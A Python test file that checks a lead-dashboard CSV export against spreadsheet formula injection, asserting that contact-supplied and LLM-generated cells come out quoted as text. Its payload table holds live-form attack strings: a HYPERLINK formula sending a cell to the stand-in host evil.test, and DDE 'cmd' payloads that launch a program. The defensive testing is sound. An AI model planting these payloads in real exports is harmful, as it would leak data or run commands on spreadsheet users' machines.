"""The lead CSV download is formula-safe: names typed by contacts are never run by Excel."""

from __future__ import annotations

import csv
import io

import psycopg
import pytest

from allpfit.dashboard import tables, texts
from allpfit.dashboard.queries import LeadFilters
from allpfit.spreadsheet import formula_like
from tests.dashboard.builder import TODAY, Rows

PAYLOADS = {
    "nome": '=HYPERLINK("http://evil.test/?d="&C2,"Ver lead")',
    "bot": "=cmd|' /C calc'!A0",
    "objetivo": "-2+3+cmd|' /C calc'!A0",
    "analise": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sugestao": "+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("mask", [True, False])
def test_lead_csv_cells_that_could_be_formulas_are_text(
    local: psycopg.Connection, local_url: str, mask: bool
) -> None:
    rows = Rows(local)
    rows.conversation(1, contact_id=1, day=TODAY, name=PAYLOADS["nome"], phone="+5511987650001")
    rows.profile(
        1,
        probability=4,
        bot_name=PAYLOADS["bot"],
        condition="Iniciante",
        goal=PAYLOADS["objetivo"],
    )
    local.execute(  # LLM output repeats what the lead wrote: it is outside text too
        "UPDATE conversas_analytics_ai SET analise_ia = %s, sugestao_disparo = %s",
        (PAYLOADS["analise"], PAYLOADS["sugestao"]),
    )
    rows.conversation(2, contact_id=2, day=TODAY, hour=11, name="\t=1+1", phone=None)
    out = io.BytesIO()
    with psycopg.connect(local_url) as conn:  # not autocommit: a server-side cursor
        count = tables.write_leads_csv(
            conn, LeadFilters(TODAY, TODAY), out, tz="America/Sao_Paulo", mask_phones=mask
        )
    lines = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig")), delimiter=";"))
    assert count == 2 and lines[0] == list(texts.LEAD_COLUMNS)
    for line in lines:
        for cell in line:
            assert not formula_like(cell), cell
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    by_name = {line[0]: line for line in lines[1:]}
    lead = dict(zip(texts.LEAD_COLUMNS, by_name["'" + PAYLOADS["nome"]], strict=True))
    assert lead["Nome Mapeado Bot"] == "'" + PAYLOADS["bot"]
    phone = lead["Celular"]
    assert phone.startswith("'+55 11 ") and phone.endswith("-0001")  # "+" starts a formula
    assert ("•" in phone) == mask
    assert [lead["Condição Física"], lead["Objetivo"]] == ["Iniciante", "'" + PAYLOADS["objetivo"]]
    assert [lead["Análise IA"], lead["Sugestão de Disparo"]] == [
        "'" + PAYLOADS["analise"],
        "'" + PAYLOADS["sugestao"],
    ]
    assert lead["Probabilidade"] == "4"  # a number, not quoted
    assert "'\t=1+1" in by_name
